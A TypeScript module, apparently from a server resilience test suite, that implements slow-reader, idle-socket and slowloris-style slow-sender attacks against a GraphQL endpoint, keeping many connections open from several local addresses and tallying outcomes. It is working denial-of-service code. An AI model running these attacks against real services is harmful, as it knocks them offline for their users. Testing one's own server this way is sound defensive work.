/** Attacks by sockets alone: readers that read nothing, sockets that say nothing, senders that never end. */
import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import type { Tally, Target } from './client.ts'

/** Ask for a large answer and read nothing of it. */
export function slowReaders(target: Target, count: number): Promise<Tally> {
  const query = encodeURIComponent('{claims(first:200){nodes{id label}}}')
  const asks = `GET /graphql?query=${query} HTTP/1.1\r\nHost: ${target.host}:${target.port}\r\nAccept: application/json\r\n\r\n`
  return sockets(target, count, (socket) => {
    socket.pause()
    // One after another on the same socket: what is not read piles up.
    socket.write(asks.repeat(50))
  })
}

export function idleSockets(target: Target, count: number): Promise<Tally> {
  return sockets(target, count, () => {})
}

/** Begin a request and send one more header a second. */
export function slowSenders(target: Target, count: number): Promise<Tally> {
  return sockets(target, count, (socket) => {
    socket.write(`POST /graphql HTTP/1.1\r\nHost: ${target.host}:${target.port}\r\n`)
    const more = setInterval(() => socket.write(`X-More: ${Date.now()}\r\n`), 1_000)
    socket.once('close', () => clearInterval(more))
  })
}

/** Opens so many sockets from ten addresses, and opens each that was closed again, once a second. */
async function sockets({ host, port, until }: Target, count: number, use: (socket: Socket) => void): Promise<Tally> {
  const outcomes: Record<string, number> = {}
  const note = (outcome: string) => {
    outcomes[outcome] = (outcomes[outcome] ?? 0) + 1
  }
  const open = new Set<Socket>()
  let number = 0
  while (Date.now() < until) {
    while (open.size < count && Date.now() < until) {
      number += 1
      const socket = connect({ host, port, localAddress: `127.0.0.${3 + (number % 10)}` })
      open.add(socket)
      socket.once('connect', () => {
        note('connected')
        use(socket)
      })
      socket.on('error', (error: NodeJS.ErrnoException) => note(error.code ?? 'error'))
      socket.once('close', () => {
        note('closed')
        open.delete(socket)
      })
      if (number % 100 === 0) await pause(10)
    }
    await pause(1_000)
  }
  for (const socket of open) socket.destroy()
  return { outcomes, slowestRefusalMs: 0, answeredMs: [] }
}
